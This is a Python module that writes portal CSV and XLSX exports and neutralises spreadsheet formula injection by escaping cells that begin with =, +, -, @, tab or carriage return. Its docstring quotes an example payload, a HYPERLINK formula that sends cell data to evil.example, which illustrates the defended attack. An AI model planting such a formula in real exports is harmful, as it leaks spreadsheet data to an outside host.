"""The one way the portal writes XLSX and CSV files: no text cell can become a formula.

An administrator could name a group `=HYPERLINK("http://evil.example/?"&A2,"Klick")`; any
export carrying that name would then hold a live formula (OWASP: CSV injection). Every
text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written as
text: in CSV behind a leading apostrophe (OWASP's rule), in XLSX as a string cell with
the quote prefix, so that Excel shows it as typed and never evaluates it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def is_dangerous(value: object) -> bool:
    return isinstance(value, str) and value.startswith(DANGEROUS)


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """Semicolon-separated, decimal comma, UTF-8 with BOM: what German Excel opens as it is."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    for row in rows:
        writer.writerow([_csv_cell(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode()


def _csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, float):
        return str(value).replace(".", ",")
    if is_dangerous(value):
        return "'" + value
    return value


def append_row(sheet: Worksheet, row: Sequence[Any]) -> None:
    """`sheet.append(row)`, with every text cell kept text."""
    sheet.append([None if is_dangerous(value) else value for value in row])
    line = sheet.max_row
    for column, value in enumerate(row, start=1):
        if is_dangerous(value):
            cell = sheet.cell(row=line, column=column)
            cell.value = value
            cell.data_type = "s"  # openpyxl would take a leading "=" for a formula
            cell.quotePrefix = True


def new_workbook(title: str) -> tuple[Workbook, Worksheet]:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title[:31]
    return book, sheet


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
